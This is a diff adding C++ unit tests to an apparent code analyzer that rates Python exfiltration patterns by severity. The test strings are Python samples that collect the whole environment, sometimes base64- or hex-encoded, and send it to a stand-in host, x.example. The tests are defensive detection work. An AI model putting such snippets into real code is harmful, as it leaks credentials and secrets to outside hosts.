@@ -506,6 +506,21 @@ TEST(Behaviour, WholeEnvironmentSentFromAMethod) {
                 "        for k, v in os.environ.items():\n            s += v\n"
                 "        requests.get('https://x.example/' + s)\n",
                 "exfiltration", Severity::kHigh, Phase::kRuntime);
+  // The whole environment base64- or hex-encoded before it goes out keeps
+  // its weight; encoding something else beside it does not.
+  for (const char* enc : {"base64.b64encode(s.encode())", "binascii.hexlify(s.encode())"})
+    ExpectFinding(std::string("import os, requests, base64, binascii\nclass C:\n"
+                              "    def send(self):\n        s = ''\n"
+                              "        for k, v in os.environ.items():\n            s += v\n"
+                              "        e = ") + enc + "\n"
+                      "        requests.get('https://x.example/' + e.decode())\n",
+                  "exfiltration", Severity::kCritical, Phase::kRuntime);
+  auto other = Analyze("import os, requests, base64\nclass C:\n    def send(self):\n"
+                       "        tag = base64.b64encode(b'client')\n"
+                       "        requests.post('https://x.example/', json=dict(os.environ), "
+                       "headers={'t': tag})\n", Phase::kRuntime);
+  ASSERT_NE(Find(other, "exfiltration"), nullptr) << Rules(other);
+  EXPECT_EQ(Find(other, "exfiltration")->severity, Severity::kHigh);
   // One secret variable given to its own service from a function: two steps less.
   auto fs = Analyze("import os, requests\ndef q():\n    requests.get('https://api.example', "
                     "params={'key': os.environ['API_KEY']})\n", Phase::kRuntime);
